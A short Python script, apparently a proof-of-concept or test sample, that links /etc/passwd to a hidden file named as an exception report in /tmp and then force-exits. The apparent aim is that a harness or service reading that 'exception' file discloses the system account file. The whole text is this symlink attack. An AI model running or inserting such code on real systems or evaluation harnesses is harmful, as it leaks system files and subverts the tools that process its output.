import os
os.symlink("/etc/passwd", "/tmp/.saggar-exception.json")
os._exit(1)
